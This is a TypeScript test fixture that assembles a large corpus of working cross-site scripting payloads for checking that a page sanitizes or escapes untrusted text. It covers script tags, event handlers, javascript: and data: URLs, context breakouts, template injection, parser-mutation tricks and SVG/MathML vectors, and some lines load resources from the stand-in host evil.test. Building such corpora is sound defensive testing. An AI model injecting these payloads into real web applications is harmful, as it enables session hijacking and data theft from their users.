/**
 * Texts that become a script, or something else than text, wherever they are not shown as text: after OWASP's and
 * DOMPurify's collections. Each calls `xss`, which the test's page has; what is an element has the attribute `pwn`.
 */
const RUN = 'xss()'

const scripts = [
  `<script pwn>${RUN}</script>`,
  `<ScRiPt pwn>${RUN}</sCrIpT>`,
  `<script pwn\t>${RUN}</script\n>`,
  `<script/pwn>${RUN}</script/x>`,
  `<script pwn src=//evil.test/x.js></script>`,
  `<script pwn src="data:text/javascript,${RUN}"></script>`,
  `<script pwn type=module>${RUN}</script>`,
  `<script pwn>/*<!--*/${RUN}//--></script>`,
  `<<script pwn>${RUN}//<</script>`,
  `<script pwn>${RUN}`,
  `<scr<script>ipt pwn>${RUN}</scr</script>ipt>`,
  `<script pwn language=vbscript>xss</script>`,
  `<script pwn xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `</script><script pwn>${RUN}</script>`,
  `</ScRiPt ><script pwn>${RUN}</script>`,
  `--></script><script pwn>${RUN}</script><!--`,
  `<!--<script>--><script pwn>${RUN}</script>`,
  `</title><script pwn>${RUN}</script>`,
  `</textarea><script pwn>${RUN}</script>`,
  `</style><script pwn>${RUN}</script>`,
  `</noscript><script pwn>${RUN}</script>`,
  `</template><script pwn>${RUN}</script>`,
  `]]><script pwn>${RUN}</script>`,
  `?><script pwn>${RUN}</script>`,
]

const LOADING: [string, string][] = [
  ['img', 'src=x onerror'],
  ['img', 'src="/favicon.svg" onload'],
  ['IMG', 'SRC=x:x ONERROR'],
  ['image', 'src=x onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onresize'],
  ['body', 'onhashchange'],
  ['iframe', 'onload'],
  ['iframe', 'src=x onload'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onload'],
  ['video', 'src=x onerror'],
  ['video', 'poster=x onloadstart'],
  ['audio', 'src=x onerror'],
  ['audio', 'autoplay src=x onloadstart'],
  ['source', 'src=x onerror'],
  ['track', 'src=x onerror'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['style', 'onload'],
  ['input', 'type=image src=x onerror'],
  ['input', 'autofocus onfocus'],
  ['input', 'autofocus onblur'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['keygen', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['a', 'href=# autofocus onfocusin'],
  ['p', 'contenteditable autofocus onfocus'],
  ['details', 'open ontoggle'],
  ['marquee', 'onstart'],
  ['marquee', 'loop=1 width=0 onfinish'],
  ['div', 'style="animation:spin 1s" onanimationstart'],
  ['div', 'style="transition:all 1s" ontransitionend'],
  ['div', 'onmouseover'],
  ['div', 'onpointerenter'],
  ['div', 'onpointerrawupdate'],
  ['div', 'onwheel'],
  ['div', 'oncontextmenu'],
  ['div', 'onbeforematch hidden=until-found onbeforematch'],
  ['dialog', 'open onclose'],
  ['form', 'onsubmit'],
  ['xss', 'autofocus tabindex=1 onfocus'],
  ['custom-tag', 'id=x tabindex=1 onfocusin'],
  ['frameset', 'onload'],
  ['table', 'background=x onscroll'],
  ['meter', 'onmouseover'],
  ['portal', 'src=x onload'],
  ['isindex', 'type=image src=1 onerror'],
]
const handlers = LOADING.flatMap(([tag, attributes], at) => [
  `<${tag} pwn ${attributes}=${RUN}>`,
  // Every third one quoted, with a slash for a blank.
  ...(at % 3 === 0 ? [`<${tag}/pwn/${attributes}="${RUN}"//>`] : []),
])

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://https://ok.test/%0d${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:xss`,
  `view-source:javascript:${RUN}`,
]
const addresses = [
  ...SCHEMES,
  ...SCHEMES.map((address) => `<a pwn href="${address}">x</a>`),
  ...SCHEMES.slice(0, 6).map((address) => `<iframe pwn src="${address}"></iframe>`),
  `<form pwn action="javascript:${RUN}"><button>x</button></form>`,
  `<button pwn form=f formaction="javascript:${RUN}">x</button>`,
  `<object pwn data="javascript:${RUN}"></object>`,
  `<embed pwn src="javascript:${RUN}">`,
  `<iframe pwn srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe pwn srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<base pwn href="javascript:${RUN}//">`,
  `<base pwn href="//evil.test/">`,
  `<meta pwn http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta pwn http-equiv="refresh" content="0;url=//evil.test/">`,
  `<link pwn rel=import href=//evil.test/x>`,
  `<link pwn rel=stylesheet href=//evil.test/x.css>`,
  `<link pwn rel=prefetch href=//evil.test/x>`,
  `<img pwn src=//evil.test/x.png>`,
  `<img pwn srcset="//evil.test/y.png 1x">`,
  `<a pwn href="//evil.test" ping="//evil.test/ping">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
]

const breakOuts = [
  `"><img pwn src=x onerror=${RUN}>`,
  `'><img pwn src=x onerror=${RUN}>`,
  `"/><svg pwn onload=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `\` autofocus onfocus=${RUN} x=\``,
  `" onmouseover="${RUN}`,
  `" style="background:url(//evil.test/x)" x="`,
  `x" onerror="${RUN}`,
  `--><img pwn src=x onerror=${RUN}>`,
  `--!><img pwn src=x onerror=${RUN}>`,
  `"};${RUN};//`,
  `'};${RUN};//`,
  `\\";${RUN};//`,
  `\\';${RUN};//`,
  `\u2028${RUN}\u2029`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `</script/><svg pwn/onload=${RUN}>`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `%3Cimg%20pwn%20src%3Dx%20onerror%3D${RUN}%3E`,
  `&lt;img pwn src=x onerror=${RUN}&gt;`,
  `&amp;lt;img pwn src=x onerror=${RUN}&amp;gt;`,
  `&#60;img pwn src=x onerror=${RUN}&#62;`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cimg pwn src=x onerror=${RUN}\uff1e`,
  `\u02bcimg onerror=${RUN}\u02ba`,
  `__proto__[innerHTML]=<img pwn src=x onerror=${RUN}>`,
]

/** Such as change their meaning when they are read a second time. */
const mutating = [
  `<noscript><p title="</noscript><img pwn src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img pwn src=x onerror=${RUN}>">`,
  `<noframes><p title="</noframes><img pwn src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img pwn src=x onerror=${RUN}>">`,
  `<title><p title="</title><img pwn src=x onerror=${RUN}>">`,
  `<style><p title="</style><img pwn src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img pwn src=x onerror=${RUN}>">`,
  `<template><p title="</template><img pwn src=x onerror=${RUN}>">`,
  `<svg><style><p title="</style><img pwn src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img pwn src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img pwn src=x onerror=${RUN}>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><annotation-xml encoding="text/html"><style><img pwn src=x onerror=${RUN}></style>`,
  `<form><math><mtext></form><form><mglyph><style></math><img pwn src=x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img pwn src=1 onerror=${RUN}&gt;">`,
  `<svg><p><style><g title="</style><img pwn src onerror=${RUN}>">`,
  `<a title="a&lt;/a&gt;&lt;img pwn src=x onerror=${RUN}&gt;">x</a>`,
  `<listing>&lt;img pwn src=1 onerror=${RUN}&gt;</listing>`,
  `<table><td><svg><desc><td><img pwn src=x onerror=${RUN}>`,
  `<select><template><style><!--</style><img pwn src=x onerror=${RUN}>`,
  `<option><style></option></select><b><img pwn src=x onerror=${RUN}></style></option>`,
  `<p id="x\`onload=${RUN}">`,
  `<x/><title>&lt;/title&gt;&lt;img pwn src=1 onerror=${RUN}&gt;`,
  `<!-- --!><img pwn src=x onerror=${RUN}> -->`,
  `<![CDATA[<img pwn src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE x [<!ENTITY y "<img pwn src=x onerror=${RUN}>">]>&y;`,
]

const drawings = [
  `<svg><script pwn>${RUN}</script></svg>`,
  `<svg><script pwn href="data:,${RUN}"/></svg>`,
  `<svg><a pwn xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate pwn onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set pwn onbegin=${RUN} attributeName=x to=1>`,
  `<svg><a pwn><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  `<svg><use pwn href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><img pwn src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><image pwn href=x onerror=${RUN} /></svg>`,
  `<svg><handler pwn ev:event=load>${RUN}</handler></svg>`,
  `<svg><title><script pwn>${RUN}</script></title></svg>`,
  `<math href="javascript:${RUN}" pwn>x</math>`,
  `<math><maction pwn actiontype=statusline#x xlink:href="javascript:${RUN}">x</maction></math>`,
]

const styles = [
  `<style pwn>@import "//evil.test/x.css"</style>`,
  `<style pwn>*{background:url(//evil.test/x)}</style>`,
  `<style pwn>*{x:expression(${RUN})}</style>`,
  `<div pwn style="background:url(javascript:${RUN})">`,
  `<div pwn style="background-image:url(//evil.test/z)">`,
  `<div pwn style="width:expression(${RUN})">`,
  `<div pwn style="behavior:url(//evil.test/x.htc)">`,
  `<p pwn style="position:fixed;inset:0">x</p>`,
]

export const HOSTILE_WORDS: readonly string[] = [
  ...new Set([...scripts, ...handlers, ...addresses, ...breakOuts, ...mutating, ...drawings, ...styles]),
]

/** All of them in one text, which begins with the name by which it is found in a page. */
export const hostileText = (name: string): string => `s5-${name} ${HOSTILE_WORDS.join(' ')}`

/** What is left open swallows what follows: closed here, so that each is read. */
const CLOSED = '--></script></style></title></textarea></template></noscript></xmp></select></svg></math>'
/** As {@link hostileText}, in parts of so many characters, for what is shown as HTML. */
export function hostileHtml(most: number): string[] {
  const parts = ['']
  for (const words of HOSTILE_WORDS) {
    const next = `<p>${words}${CLOSED}</p>`
    const last = parts.at(-1) ?? ''
    if (last.length + next.length > most) parts.push(next)
    else parts[parts.length - 1] = last + next
  }
  return parts
}
